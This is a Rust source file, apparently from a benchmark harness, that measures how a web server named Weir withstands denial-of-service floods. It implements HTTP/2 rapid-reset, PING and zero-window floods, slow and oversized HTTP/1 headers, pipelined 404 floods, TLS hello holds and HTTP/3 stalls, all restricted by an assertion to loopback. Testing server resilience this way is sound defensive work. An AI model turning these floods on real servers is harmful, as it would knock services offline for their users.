//! The floods, one function each. Each is bounded in connections, requests and time, and leaves the connections that it
//! opened for the caller to close.

use std::io::{self, Read, Write};
use std::net::{Ipv4Addr, Shutdown, SocketAddr, TcpStream};
use std::time::{Duration, Instant};

use socket2::{Domain, Socket, Type};

use super::h2::{PREFACE, frame, request};
use super::quic::Quic;
use super::server::{LARGE, SMALL, Server};

/// The concurrent streams on a connection, as many as servers allow (RFC 9113 section 6.5.2 recommends no fewer).
pub const STREAMS: u32 = 100;
/// So many connections start from each local address: Weir takes a quarter of its connections from one client.
const CONNECTIONS_PER_ADDRESS: u32 = 2000;
/// The time limit of any answer, after which the connection is given up.
const ANSWER: Duration = Duration::from_secs(10);
/// The connections of floods that need few, and of the slow heads, which wait for every byte.
const FEW: u32 = 50;
const SLOW: u32 = 10;
/// The frames or requests on each of these connections.
const MANY: u32 = 2000;
const BATCH: u32 = 100;
const SLOW_HEAD_BYTES: usize = 4000;
/// Slightly less than the maximum that Weir accepts (`limits.head`).
const LARGE_HEAD_BYTES: usize = 63 << 10;
/// Weir's memory limit under floods that aim at memory.
pub const MEMORY: &str = "64MiB";
/// The time for which connections are held, so that the honest client's longest wait falls within the flood.
pub const HELD: Duration = Duration::from_secs(8);
/// The pause between two bytes, so that the server receives each separately.
const SLOW_PAUSE: Duration = Duration::from_micros(500);

const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const INITIAL_WINDOW_SIZE: u8 = 4;
const END_STREAM_AND_HEADERS: u8 = 5;
const FRAME_HEAD_BYTES: usize = 9;

/// The results of an attack.
pub struct Tally {
    pub upload_bytes: u64,
    /// The connections that the server kept open.
    pub held: Vec<TcpStream>,
    /// The connections of HTTP/3, which a thread holds.
    pub quic: Option<Quic>,
    pub given_up: u32,
    /// The number of requests whose answer has begun, if each causes a line of the access log when it ends.
    pub answered: Option<u64>,
    pub deadline: Instant,
}

impl Tally {
    pub fn until(deadline: Instant) -> Tally {
        Tally { upload_bytes: 0, held: Vec::new(), quic: None, given_up: 0, answered: None, deadline }
    }

    pub fn held(&self) -> u32 {
        self.held.len() as u32 + self.quic.as_ref().map_or(0, |quic| quic.held)
    }

    /// Closes all connections immediately.
    pub fn close(&mut self) {
        self.held.clear();
        self.quic = None;
    }

    fn is_late(&self) -> bool {
        Instant::now() >= self.deadline
    }

    pub fn send(&mut self, stream: &mut TcpStream, bytes: &[u8]) -> io::Result<()> {
        stream.write_all(bytes)?;
        self.upload_bytes += bytes.len() as u64;
        Ok(())
    }

    fn saw(&mut self, answers: u64) {
        self.answered = Some(self.answered.unwrap_or(0) + answers);
    }

    /// Opens this many connections, one after another, and keeps each for which `attack` succeeds.
    pub fn each(
        &mut self,
        server: SocketAddr,
        connections: u32,
        mut attack: impl FnMut(&mut Tally, &mut TcpStream) -> io::Result<()>,
    ) {
        for at in 0..connections {
            if self.is_late() {
                break;
            }
            match connect(server, at).and_then(|mut stream| attack(self, &mut stream).map(|()| stream)) {
                Ok(stream) => self.held.push(stream),
                Err(_) => self.given_up += 1,
            }
        }
    }
}

pub struct Attack {
    pub name: &'static str,
    /// A description of the attack.
    pub what: &'static str,
    pub run: fn(&Server, u32, &mut Tally),
    /// The maximum concurrent requests to the application behind the server; `None` if the server serves files.
    pub places: Option<u32>,
    /// Weir's `limits.memory`, if the attack aims at memory.
    pub memory: Option<&'static str>,
}

const fn of_files(name: &'static str, what: &'static str, run: fn(&Server, u32, &mut Tally)) -> Attack {
    Attack { name, what, run, places: None, memory: None }
}

/// The attacks on files. The first requests nothing and is the baseline of the others.
pub const ATTACKS: [Attack; 11] = [
    of_files("idle", "HTTP/2 connections that ask for nothing, closed at once", idle),
    of_files("h2-stall", "zero window, 100 GETs of 20 MB each, closed at once", h2_stall),
    of_files("h2-reset", "HEADERS and RST_STREAM, 2,000 times on each of 50 connections", h2_reset),
    of_files("h2-ping", "2,000 PINGs on each of 50 connections, answers read late", h2_ping),
    of_files("h1-slow-head", "10 heads of 4 KB, a byte at a time", h1_slow_head),
    Attack {
        memory: Some(MEMORY),
        ..of_files("h1-large-head", "a head of 63 KB without its end on each connection, held", h1_large_head)
    },
    of_files("h1-404", "2,000 random names on each of 50 connections, pipelined", h1_404),
    of_files("h1-stall", "a GET of 20 MB on each connection, never read", h1_stall),
    of_files("tls-hello", "a ClientHello on each connection, then silence", tls_hello),
    of_files("h3-idle", "HTTP/3 connections that ask for nothing, closed at once", h3_idle),
    of_files("h3-stall", "windows of 64 bytes, 100 GETs of 20 MB each, closed at once", h3_stall),
];

impl Attack {
    /// Returns true for attacks over QUIC, which nginx 1.22 does not support.
    pub fn is_http3(&self) -> bool {
        self.name.starts_with("h3-")
    }
}

fn connect(server: SocketAddr, at: u32) -> io::Result<TcpStream> {
    assert!(server.ip().is_loopback(), "attacks stay on loopback");
    let source = Ipv4Addr::from(u32::from(Ipv4Addr::LOCALHOST) + 1 + at / CONNECTIONS_PER_ADDRESS);
    let socket = Socket::new(Domain::IPV4, Type::STREAM, None)?;
    socket.bind(&SocketAddr::from((source, 0)).into())?;
    socket.connect(&server.into())?;
    let stream = TcpStream::from(socket);
    stream.set_nodelay(true)?;
    stream.set_read_timeout(Some(ANSWER))?;
    stream.set_write_timeout(Some(ANSWER))?;
    Ok(stream)
}

/// Returns a client preface after which responses may send nothing.
pub fn opening() -> Vec<u8> {
    let zero_window = [0, INITIAL_WINDOW_SIZE, 0, 0, 0, 0];
    [PREFACE, &frame(SETTINGS, 0, 0, &zero_window)].concat()
}

/// Returns a client preface after which responses may send what the protocol allows by default.
pub fn opening_wide() -> Vec<u8> {
    [PREFACE, &frame(SETTINGS, 0, 0, &[])].concat()
}

pub fn get(stream: u32, name: &str) -> Vec<u8> {
    frame(HEADERS, END_STREAM_AND_HEADERS, stream, &request(name))
}

fn idle(server: &Server, connections: u32, tally: &mut Tally) {
    tally.each(server.http2(), connections, |tally, stream| {
        tally.send(stream, &opening())?;
        read_frames(stream, SETTINGS, 1)
    });
}

fn h2_stall(server: &Server, connections: u32, tally: &mut Tally) {
    let requests = (0..STREAMS).flat_map(|at| get(2 * at + 1, LARGE.0));
    let bytes: Vec<u8> = opening().into_iter().chain(requests).collect();
    tally.each(server.http2(), connections, |tally, stream| {
        tally.send(stream, &bytes)?;
        read_frames(stream, HEADERS, STREAMS)?;
        tally.saw(STREAMS.into());
        Ok(())
    });
}

/// Sends resets until the server ends the connection, which it should.
fn h2_reset(server: &Server, _: u32, tally: &mut Tally) {
    let cancel = 8_u32.to_be_bytes();
    tally.each(server.http2(), FEW, |tally, stream| {
        tally.send(stream, &opening())?;
        for batch in 0..MANY / BATCH {
            let ids = (0..BATCH).map(|at| 2 * (batch * BATCH + at) + 1);
            let frames = ids.flat_map(|id| [get(id, LARGE.0), frame(RST_STREAM, 0, id, &cancel)].concat());
            tally.send(stream, &frames.collect::<Vec<u8>>())?;
        }
        drain(stream)
    });
}

fn h2_ping(server: &Server, _: u32, tally: &mut Tally) {
    let pings: Vec<u8> = (0..BATCH).flat_map(|_| frame(PING, 0, 0, &[7; 8])).collect();
    tally.each(server.http2(), FEW, |tally, stream| {
        tally.send(stream, &opening())?;
        for _ in 0..MANY / BATCH {
            tally.send(stream, &pings)?;
        }
        drain(stream)
    });
}

/// Sends one byte to each connection in turn.
fn h1_slow_head(server: &Server, _: u32, tally: &mut Tally) {
    tally.each(server.http1(), SLOW, |_, _| Ok(()));
    let mut head = format!("GET /{} HTTP/1.1\r\nHost: localhost\r\n", SMALL.0);
    while head.len() < SLOW_HEAD_BYTES {
        head.push_str("X-Slow: one byte at a time, and forty-eight to the line\r\n");
    }
    head.push_str("\r\n");
    let mut streams = std::mem::take(&mut tally.held);
    for byte in head.bytes() {
        if tally.is_late() {
            break;
        }
        streams.retain_mut(|stream| tally.send(stream, &[byte]).is_ok());
        std::thread::sleep(SLOW_PAUSE);
    }
    for mut stream in streams {
        match stream.read(&mut [0; 12]) {
            Ok(12) => {
                tally.saw(1);
                tally.held.push(stream);
            }
            _ => tally.given_up += 1,
        }
    }
}

/// Requests only new names, so that no cache helps.
fn h1_404(server: &Server, _: u32, tally: &mut Tally) {
    let mut number = 0x9e37_79b9_7f4a_7c15_u64;
    tally.each(server.http1(), FEW, |tally, stream| {
        for _ in 0..MANY / BATCH {
            let mut requests = String::new();
            for _ in 0..BATCH {
                number = number.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
                requests += &format!("GET /{number:016x} HTTP/1.1\r\nHost: localhost\r\n\r\n");
            }
            tally.send(stream, requests.as_bytes())?;
            read_answers(stream, b"HTTP/1.1 404", BATCH as usize)?;
            tally.saw(BATCH.into());
        }
        Ok(())
    });
}

fn h1_large_head(server: &Server, connections: u32, tally: &mut Tally) {
    let mut head = format!("GET /{} HTTP/1.1\r\nHost: localhost\r\nX-Large: ", SMALL.0).into_bytes();
    head.resize(LARGE_HEAD_BYTES, b'x');
    tally.each(server.http1(), connections, |tally, stream| tally.send(stream, &head));
    std::thread::sleep(HELD);
}

fn h1_stall(server: &Server, connections: u32, tally: &mut Tally) {
    let request = format!("GET /{} HTTP/1.1\r\nHost: localhost\r\n\r\n", LARGE.0);
    tally.each(server.http1(), connections, |tally, stream| {
        tally.send(stream, request.as_bytes())?;
        stream.read_exact(&mut [0; 12])?;
        tally.saw(1);
        Ok(())
    });
}

fn tls_hello(server: &Server, connections: u32, tally: &mut Tally) {
    let hello = super::hello::client_hello();
    tally.each(server.tls(), connections, |tally, stream| {
        tally.send(stream, &hello)?;
        let mut record = [0; 6];
        stream.read_exact(&mut record)?;
        // The answer is a ServerHello and not an alert.
        let is_answered = record[0] == 22 && record[5] == 2;
        if is_answered { Ok(()) } else { Err(io::Error::other("no ServerHello")) }
    });
}

fn h3_idle(server: &Server, connections: u32, tally: &mut Tally) {
    h3(server, connections, 0, tally);
}

fn h3_stall(server: &Server, connections: u32, tally: &mut Tally) {
    h3(server, connections, STREAMS, tally);
    tally.saw(tally.quic.as_ref().map_or(0, |quic| quic.answered));
}

/// Counts all connections as given up if their sockets cannot be opened.
fn h3(server: &Server, connections: u32, requests: u32, tally: &mut Tally) {
    match Quic::open(server.tls(), &format!("/{}", LARGE.0), connections, requests, tally.deadline) {
        Ok(quic) => {
            tally.given_up = quic.given_up;
            tally.upload_bytes = quic.upload_bytes;
            tally.quic = Some(quic);
        }
        Err(why) => {
            eprintln!("measure: {why}");
            tally.given_up = connections;
        }
    }
}

/// Reads frames until `count` frames of this type have arrived.
pub fn read_frames(stream: &mut TcpStream, kind: u8, count: u32) -> io::Result<()> {
    let mut seen = 0;
    let mut input = io::BufReader::new(stream);
    while seen < count {
        let mut head = [0; FRAME_HEAD_BYTES];
        input.read_exact(&mut head)?;
        let bytes = u32::from_be_bytes([0, head[0], head[1], head[2]]);
        io::copy(&mut (&mut input).take(bytes.into()), &mut io::sink())?;
        seen += u32::from(head[3] == kind);
    }
    Ok(())
}

/// Reads until `begin` has arrived `count` times.
fn read_answers(stream: &mut TcpStream, begin: &[u8], count: usize) -> io::Result<()> {
    let (mut seen, mut text, mut part) = (0, Vec::new(), vec![0; 64 * 1024]);
    while seen < count {
        match stream.read(&mut part)? {
            0 => return Err(io::ErrorKind::UnexpectedEof.into()),
            got => text.extend_from_slice(&part[..got]),
        }
        seen += text.windows(begin.len()).filter(|window| *window == begin).count();
        text.drain(..text.len().saturating_sub(begin.len() - 1));
    }
    Ok(())
}

/// Ends the sending side, and reads until the server ends its own.
pub fn drain(stream: &mut TcpStream) -> io::Result<()> {
    stream.shutdown(Shutdown::Write)?;
    io::copy(stream, &mut io::sink()).map(drop)
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::net::{Ipv4Addr, TcpListener};

    fn pair() -> (TcpStream, TcpStream) {
        let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).unwrap();
        let client = TcpStream::connect(listener.local_addr().unwrap()).unwrap();
        (client, listener.accept().unwrap().0)
    }

    #[test]
    fn answers_are_counted_across_reads_and_frames_by_their_type() {
        let (mut client, mut server) = pair();
        server.write_all(b"HTTP/1.1 404 x\r\n\r\nHTTP/1.1 404 y\r\n\r\n").unwrap();
        assert!(read_answers(&mut client, b"HTTP/1.1 404", 2).is_ok());
        let frames = [frame(SETTINGS, 0, 0, &[]), frame(HEADERS, 4, 1, b"abc"), frame(HEADERS, 4, 3, b"")];
        server.write_all(&frames.concat()).unwrap();
        assert!(read_frames(&mut client, HEADERS, 2).is_ok());
        drop(server);
        assert!(read_frames(&mut client, HEADERS, 1).is_err());
        assert!(read_answers(&mut client, b"HTTP/1.1 404", 1).is_err());
    }

    #[test]
    fn names_differ_and_a_window_of_zero_is_asked_for() {
        assert!(opening().ends_with(&[0, 0, 6, SETTINGS, 0, 0, 0, 0, 0, 0, INITIAL_WINDOW_SIZE, 0, 0, 0, 0]));
        assert!(ATTACKS.iter().enumerate().all(|(at, attack)| ATTACKS[..at].iter().all(|a| a.name != attack.name)));
    }
}
